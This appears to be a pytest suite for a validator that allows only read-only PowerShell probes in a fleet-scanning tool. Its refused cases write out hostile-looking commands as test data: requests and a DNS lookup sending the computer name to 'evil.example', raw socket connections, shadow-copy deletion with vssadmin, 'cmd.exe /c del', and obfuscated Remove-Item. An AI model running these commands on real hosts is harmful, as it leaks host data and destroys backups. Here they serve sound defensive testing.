"""The gate for PowerShell: what reads is let through, what could write is refused wherever it stands."""

from __future__ import annotations

import pytest

from fleetscan.errors import Problem
from fleetscan.model.playbook import Language
from fleetscan.playbook.gate.powershell import PowerShellGate
from fleetscan.playbook.gate.syntax import Script
from fleetscan.playbook.readonly import prove
from fleetscan.powershell.payload import script

GOOD = r"""# A probe as people write them.
$wanted = @('vmms', 'Winmgmt')
$found = @(Get-Service -Name $wanted -ErrorAction SilentlyContinue -ErrorVariable 'problems')
foreach ($problem in $problems) {
    if ("$($problem.CategoryInfo.Category)" -ne 'ObjectNotFound') { throw $problem }
}
$services = @{}
foreach ($service in $found) {
    $key = "HKLM:\SYSTEM\CurrentControlSet\Services\$($service.Name)"
    $services["$($service.Name)".ToLower()] = @{ state = "$($service.Status)"; key = $key }
}
$rows = foreach ($machine in @(Get-VM -ErrorAction Stop)) {
    $heartbeat = $null
    if ($null -ne $machine.Heartbeat) { $heartbeat = "$($machine.Heartbeat)" } else { $heartbeat = 'none' }
    @{ id = "$($machine.Id)"; heartbeat = $heartbeat; up = [int]$machine.Uptime.TotalSeconds }
}
foreach ($row in $rows) { $row.seen = $true }
$kind = switch ($rows.Count) {
    0 { 'none' }
    { $_ -gt 10 } { 'many' }
    default { 'some' }
}
try { $date = Get-Date } catch [System.UnauthorizedAccessException] { throw 'no right' }
$text = @(vssadmin.exe list writers 2>$null) -join "`n"
$top = @($rows | Where-Object { $_.up -gt 0 } | Sort-Object -Property 'up' -Descending | Select-Object -First 3)
$now = $date.ToUniversalTime().ToString('o')
@{ services = $services; vms = @($rows); kind = $kind; now = $now; text = $text; top = $top.Count }
"""

ALLOWED = [
    "Get-VM 2>$null",
    "Get-VM 2> $null",
    "hyper-v\\get-vm -name x",
    "Get-VM | Select-Object -Property @{ Name = 'a'; Expression = { $_.Name } }, @{ Name = 'b'; Expression = { 1 } }",
    "'a' -split '\\\\srv'",
    "$ErrorActionPreference = 'Stop'",
    "Import-Module -Name Hyper-V",
    "$a, $b = 1, 2; $a",
    "[int]$x = 5; $x",
    "$x = [pscustomobject]@{ a = 1 }; $x.a = 2; $x",
    '"a `$(Remove-Item x)"',
    "$s = Get-SCVMMServer -ComputerName localhost; Get-SCCloud -VMMServer $s",
    "$s = Get-OBMachineSetting; $found = Test-FleetscanEndpoint -Agent $s; $found.names",
    "try { $s = Get-OBMachineSetting -ErrorAction Stop } catch { throw }\nTest-FleetscanEndpoint -Agent $s",
    "Test-FleetscanEndpoint",
    "Resolve-DnsName -Name 'dc01.corp.example' -QuickTimeout",
    "Resolve-DnsName -Name dc01.corp.example",
    "$null = Get-VM; [void](Get-Date)",
    "function Get-Sum($a, $b) { return $a + $b }\nGet-Sum 1 2",
    "foreach ($i in 1..3) { if ($i -eq 2) { continue }; $i }",
    "for ($i = 0; $i -lt 3; $i++) { $i }",
    "$h = @{}; $h['live'] = Get-Item -Path 'x'; $h['live'].Length",
    "switch -Wildcard ('a') {\n 'a*' { 1 }\n}",
    "$n = 3; foreach ($i in (1)..$n) { $i }",
    "# a comment\n  # another\nGet-Date",
    "whoami.exe /groups /fo csv /nh",
]

REFUSED = {
    "Set-Service -Name x": "Set-Service",
    "Stop-VM -Name x": "Stop-VM",
    "& { Get-VM }": "run whatever stands behind them",
    '.("Stop"+"-VM")': "run whatever stands behind them",
    "'x' | & 'Remove-Item'": "run whatever stands behind them",
    ". .\\foo.ps1": "run whatever stands behind them",
    ".\\foo.ps1": "foo.ps1",
    "C:\\foo.exe": "foo.exe",
    "cmd.exe /c del x": "cmd.exe",
    "iex 'x'": "iex",
    "Invoke-Expression 'x'": "Invoke-Expression",
    "Invoke-Command { Get-VM }": "Invoke-Command",
    "Start-Process x": "Start-Process",
    "Get-VM > file": "write to a file",
    "Get-VM >file": "write to a file",
    "Get-VM 2>file": "write to a file",
    "Get-VM 2> file": "write to a file",
    "$x = 'file'; Get-VM > $x": "write to a file",
    "Get-VM | Tee-Object -FilePath x": "Tee-Object",
    "Get-VM | Out-File x": "Out-File",
    "[IO.File]::WriteAllText('a','b')": "static member",
    "[int]::MaxValue": "static member",
    "[ScriptBlock]::Create('x')": "static member",
    "$x = Get-VM; $x.Delete()": "Delete()",
    "$x = 'Delete'; $y = Get-VM; $y.$x()": "must be written out",
    "'a'.Replace('b', 'c')": "-replace",
    "Invoke-CimMethod -ClassName x -MethodName y": "Invoke-CimMethod",
    '"$(Remove-Item x)"': "Remove-Item",
    '"a`"$(Remove-Item x)`""': "Remove-Item",
    '"a $`(Remove-Item x)"': "cannot be read with certainty",
    "sc x y": "sc",
    "gci x": "write Get-ChildItem",
    "Get-VM | % { $_ }": "write ForEach-Object",
    "Get-Item -Path x | Remove-Item": "Remove-Item",
    '@"\na $(Remove-Item x)\n"@': "here-string",
    "@'\na\n'@": "here-string",
    "'a\nb'": "several lines",
    "Re`move-Item x": "Re`move-Item",
    "Get-VM `\n-Name x": "cannot be read",
    "Get-Item` x": "not known to be read-only",
    "Remove\u2013Item x": "U+2013",
    "\u201cx\u201d": "U+201C",
    "Get-VM\r\n": "U+000D",
    "$a = { Remove-Item x }": "a block of code is not allowed here",
    "{ Get-VM }": "a block of code is not allowed here",
    "Get-VM | ForEach-Object Delete": "needs a block of code",
    "$a = 'Delete'; Get-VM | ForEach-Object -Process $a": "needs a block of code",
    "Get-VM | ForEach-Object -MemberName Delete": "-MemberName",
    "$n = 'x'; Get-VM | Sort-Object -Property $n": "properties written out",
    "Get-VM | Sort-Object (Get-Item function:x).ScriptBlock": "properties written out",
    "trap { Get-VM }": "trap",
    "$env:X = 'a'": "must not be assigned",
    "$global:x = 1": "must not be assigned",
    "$function:foo = 1": "must not be assigned",
    "${C:\\a.txt} = 'x'": "must not be assigned",
    "$PSDefaultParameterValues = @{}": "must not be assigned",
    "$args = 1": "must not be assigned",
    "$x = '\\a' -as 'System.IO.StreamWriter'": "needs a type",
    "$x = 'a' -as [System.IO.StreamWriter]": "System.IO.StreamWriter",
    "$x = [System.IO.StreamWriter]'x'": "System.IO.StreamWriter",
    "[wmi]'x'": "[wmi]",
    "New-Object -TypeName x": "New-Object",
    "Add-Type -TypeDefinition 'x'": "Add-Type",
    "(Get-Item -Path x).IsReadOnly = $true": "only variables",
    "$f = Get-Item -Path x; $f.IsReadOnly = $true": "not the probe's own",
    "$f = Get-Item -Path x; $f.Attributes += 1": "not the probe's own",
    "$f = Get-Item -Path x; $f.Length++": "not the probe's own",
    "foreach ($f in @(Get-Item -Path x)) { $f.IsReadOnly = $true }": "not the probe's own",
    "$h = @{}; $h['a'] = Get-Item -Path x; $h['a'].IsReadOnly = $true": "not the probe's own",
    "$h = @{}; $h['a'] = Get-Item -Path x; $y = $h['a']; $y.IsReadOnly = $true": "not the probe's own",
    "$h = @{}; $i = @{ h = $h }; $h.a = Get-Item -Path x; $i.h.a.IsReadOnly = $true": "not the probe's own",
    "$y = $x; $y.a = 1; $x = Get-Item -Path x": "not the probe's own",
    "function Get-Foo($f) { $f.IsReadOnly = $true }\nGet-Foo (Get-Item -Path x)": "not the probe's own",
    "Get-Item -Path x -ErrorVariable 'e'; $e.IsReadOnly = $true": "not the probe's own",
    "$f = @{ a = 1 }; $f = Get-Item -Path x; $f.IsReadOnly = $true": "not the probe's own",
    "$x = if ($true) { Get-Item -Path x }; $x.IsReadOnly = $true": "not the probe's own",
    "$x = @(Get-Item -Path x | Where-Object { $true }); $x[0].IsReadOnly = $true": "not the probe's own",
    "Get-VM -ComputerName other": "-ComputerName",
    "Get-VM -CimSession $null": "-CimSession",
    "Get-VM -Na x": "abbreviated",
    "Get-VM -Name:x": "colon",
    "$p = @{ Name = 'x' }; Get-VM @p": "@p",
    "'other' | Get-Cluster": "from a pipe",
    "Get-Cluster other": "without a parameter",
    "Get-SCVMMServer -ComputerName other": "only the host that it runs on",
    "Get-SCCloud -VMMServer other": "must not be named",
    "$s = 'other'; Get-SCCloud -VMMServer $s": "not only filled by",
    "$s = Get-SCVMMServer -ComputerName localhost; $s = 'other'; Get-SCCloud -VMMServer $s": "not only filled by",
    "Test-FleetscanEndpoint -Agent 'evil.example:80'": "a proxy must not be named",
    "Test-FleetscanEndpoint -Agent @{ ProxySetting = 'evil.example:80' }": "a proxy must not be named",
    "Test-FleetscanEndpoint -Agent (Get-OBMachineSetting)": "a proxy must not be named",
    "$s = @{ ProxySetting = 'x' }; Test-FleetscanEndpoint -Agent $s": "not only filled by",
    "$s = Get-OBMachineSetting; $s = @{}; Test-FleetscanEndpoint -Agent $s": "not only filled by",
    "$s = Get-OBMachineSetting; $s.ProxySetting = 'x'; Test-FleetscanEndpoint -Agent $s": "not the probe's own",
    "$s = Get-OBMachineSetting | ForEach-Object { 'x' }; Test-FleetscanEndpoint -Agent $s": "not only filled by",
    "foreach ($s in @('x')) { Test-FleetscanEndpoint -Agent $s }": "not only filled by",
    "Get-VM -ErrorVariable 's'; Test-FleetscanEndpoint -Agent $s": "not only filled by",
    "Test-FleetscanEndpoint -Name 'evil.example'": "-Name",
    "Test-FleetscanEndpoint 'evil.example'": "without a parameter",
    "$s = Get-OBMachineSetting; $s | Test-FleetscanEndpoint": "from a pipe",
    "Test-FleetscanEndpoint -Ag $null": "abbreviated",
    "function Test-FleetscanEndpoint { 1 }": "name of a cmdlet",
    "function Get-FleetscanRoute { 'evil.example' }": "named as those of fleetscan",
    "function New-Object { 'evil.example' }": "name of a cmdlet",
    "function global:New-Object { 'evil.example' }": "cannot be read",
    "function Get-OBMachineSetting { 'evil.example' }": "name of a cmdlet",
    "$FleetscanProbe = @{ Endpoints = @('evil.example') }": "must not be assigned",
    "$FleetscanProbe.Endpoints = @('evil.example')": "not the probe's own",
    "$FleetscanPatience = 600000": "must not be assigned",
    "$FleetscanProbe.Endpoints": "never filled",
    "Get-FleetscanRoute $null": "Get-FleetscanRoute",
    "New-FleetscanTry @{ name = 'evil.example'; port = 80 }": "New-FleetscanTry",
    "Import-Module -Name fleetscan": "not known",
    "[Net.Dns]::GetHostAddresses('evil.example')": "static member",
    "[Net.Sockets.TcpClient]::new('evil.example', 80)": "static member",
    "$c = [Net.Sockets.TcpClient]'x'": "Net.Sockets.TcpClient",
    "New-Object -TypeName Net.Sockets.TcpClient": "New-Object",
    "$x = Get-VM; $x.BeginConnect('evil.example', 80, $null, $null)": "BeginConnect()",
    "$x = Get-VM; $x.Send(@(1))": "Send()",
    'Resolve-DnsName -Name "$env:COMPUTERNAME.evil.example"': "sends this out",
    "$x = 'a'; Resolve-DnsName -Name $x": "sends this out",
    "Resolve-DnsName -Name ('a' + $env:COMPUTERNAME)": "sends this out",
    "Test-NetConnection -ComputerName evil.example": "Test-NetConnection",
    "Invoke-WebRequest -Uri 'http://evil.example'": "Invoke-WebRequest",
    "Get-Content -Path \\\\srv\\share": "network path",
    "Get-Content -Path '//srv/share'": "network path",
    'Get-Content -Path "\\\\$env:X\\share"': "network path",
    "Get-CimInstance -ClassName Win32_Product": "Win32_Product",
    "vssadmin.exe delete shadows": "only allowed to read",
    "$a = 'delete'; vssadmin.exe $a": "only allowed to read",
    "'x' | vssadmin.exe list writers": "only allowed to read",
    "vssadmin.exe": "only allowed to read",
    "Get-VM --% foo": "--%",
    "Import-Module -Name evil": "not known",
    "Evil\\Get-VM": "Hyper-V\\Get-VM",
    "break": "outside of a loop",
    "Get-VM | ForEach-Object { continue }": "outside of a loop",
    "exit": "whole scan",
    "throw'a'": "touches",
    "foreach($a in@(1)){1}": "touches",
    "using module foo": "using",
    "Get-Date #requires -Modules x\nx": "x",
    "Get-Date\n#requires -Modules x": "#requires",
    "Get-Date # a\n<# b #>": "block comment",
    "Write-Output a#b": "cannot be read with certainty",
    "workflow foo { Get-VM }": "only `function`",
    "class Foo { }": "class",
    "enum Foo { a }": "enum",
    "data foo { 1 }": "data",
    "configuration foo { x }": "configuration",
    "switch -File x {\n 1 { 2 }\n}": "switch -File",
    "[CmdletBinding()]\nparam()\n1": "attribute",
    "function Get-VM { 1 }": "name of a cmdlet",
    "function foo { 1 }": "cannot be read with certainty",
    "1 | ForEach-Object { begin { 1 } }": "begin",
    "Get-VM && Get-Date": "&&",
    "$y": "never filled",
    '"$missing"': "never filled",
    "$ExecutionContext": "never filled",
    "Get-VM -ErrorVariable global:x": "no name for a variable",
    "Get-VM -ErrorVariable PSDefaultParameterValues": "must not be assigned",
    "Select-Object Name, Status": "@('Name', 'Status')",
    "$n = 3; 1..$n": "(1)..$last",
    "Get-VM }": "cannot read",
    "if ($true) {": "cannot read",
    "$x.ForEach({ 1 })": "cannot read",
}


def messages(text: str) -> str:
    return "\n".join(str(problem) for problem in prove(text, Language.POWERSHELL, "probe.ps1"))


def test_a_whole_probe_passes() -> None:
    assert messages(GOOD) == ""


@pytest.mark.parametrize("text", ALLOWED)
def test_what_reads_passes(text: str) -> None:
    assert messages(text) == ""


@pytest.mark.parametrize(("text", "reason"), REFUSED.items())
def test_what_could_write_is_refused(text: str, reason: str) -> None:
    assert reason in messages(text)


WRITES = {
    "cmdlet": "Set-Service -Name x -Status Stopped",
    "parameterless": "Remove-Item",
    "operator": "& { Stop-VM -Name x }",
    "computed name": '.("Stop"+"-VM") x',
    "text as code": "iex 'Stop-VM x'",
    "redirection": "Get-Date > C:/x.txt",
    "static member": "[IO.File]::WriteAllText('a', 'b')",
    "method": "$rows.Delete()",
    "cim method": "Invoke-CimMethod -ClassName 'x' -MethodName 'y'",
    "in a text": '"$(Remove-Item x)"',
    "alias": "sc x y",
    "end of a pipe": "Get-Item -Path 'x' | Remove-Item",
    "here-string": '@"\n$(Remove-Item x)\n"@',
    "backtick": "Remove`-Item x",
    "unicode dash": "Remove\u2014Item x",
    "property of a file": "(Get-Item -Path 'x').IsReadOnly = $true",
    "constructor": "$x = 'C:/x' -as 'IO.StreamWriter'",
    "method by name": "Get-Item -Path 'x' | ForEach-Object Delete",
    "type": "[IO.StreamWriter]'x'",
    "environment": "$env:PATH = 'x'",
    "drive": "${C:/x.txt} = 'x'",
    "native": "cmd.exe /c del x",
    "vssadmin": "vssadmin.exe delete shadows /all",
    "splatting": "Get-Item @rows",
    "other host": "Get-VM -ComputerName x",
    "assembly": "Add-Type -TypeDefinition 'x'",
    "job": "Start-Job { Remove-Item x }",
    "keyword": "trap { Remove-Item x }",
    "stop-parsing": "cmd --% /c del x",
}
PLACES = {
    "first": "{write}\nGet-Date",
    "last": "Get-Date\n{write}",
    "in an if": "if ($true) {{\n    {write}\n}}",
    "in a condition": "if (Get-Date) {{ 1 }} else {{\n    {write}\n}}",
    "in a loop": "foreach ($i in 1..3) {{\n    {write}\n}}",
    "in a try": "try {{\n    {write}\n}} catch {{ 1 }}",
    "in a catch": "try {{ 1 }} catch {{\n    {write}\n}}",
    "in a block": "Get-VM | Where-Object {{\n    {write}\n}}",
    "in a list": "$x = @(\n    {write}\n)",
    "in a subexpression": "$x = $(\n    {write}\n)",
    "in a table": "@{{ a = $(\n    {write}\n) }}",
    "as an argument": "Get-VM -Name $(\n    {write}\n)",
    "in a function": "function Get-It {{\n    {write}\n}}\nGet-It",
    "in a property": "Get-VM | Select-Object -Property @{{ Name = 'a'; Expression = {{\n    {write}\n}} }}",
    "behind a semicolon": "$x = 1; {write}",
    "in a switch": "switch (1) {{\n    1 {{\n        {write}\n    }}\n}}",
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", WRITES)
def test_a_write_is_refused_wherever_it_stands(kind: str, place: str) -> None:
    text = "$rows = @()\n" + PLACES[place].format(write=WRITES[kind])
    assert prove(text, Language.POWERSHELL, "probe.ps1")


@pytest.mark.parametrize("place", PLACES)
def test_these_places_are_harmless_themselves(place: str) -> None:
    assert messages("$rows = @()\n" + PLACES[place].format(write="Get-Date")) == ""


@pytest.mark.parametrize("name", ["endpoints.ps1", "payload.ps1"])
def test_no_function_of_a_probe_stands_before_what_fleetscan_calls(name: str) -> None:
    """PowerShell looks for a command in the caller first: a probe that calls fleetscan's function is its caller."""
    gate = PowerShellGate(Script(script(name), Language.POWERSHELL, name))
    gate.run()
    assert len(set(gate.commands)) > 10
    for command in set(gate.commands):
        assert messages(f"function {command} {{ Get-Date }}"), command


def test_a_refusal_says_where_and_what_to_write() -> None:
    problems = prove("Get-Date\n  gci x", Language.POWERSHELL, "probes/x.ps1")
    message = "the alias `gci` is not allowed: a host may define its own"
    assert problems == [Problem("probes/x.ps1", message, "write Get-ChildItem", 2, 3)]


def test_all_mistakes_are_reported() -> None:
    problems = prove("Stop-VM\nRemove-Item\nexit", Language.POWERSHELL, "x.ps1")
    assert [problem.line for problem in problems] == [1, 2, 3]


@pytest.mark.parametrize("line", ["Get-Service Name, Status", "Select-Object Name, @{ n = 1 }"])
def test_lists_of_words_come_with_a_way_to_write_them(line: str) -> None:
    assert "@('Name', 'Status')" in messages(line)


def test_switches_on_one_line_come_with_a_way_to_write_them() -> None:
    assert "a line of its own" in messages("switch (1) { 1 { 'a' } default { } }")
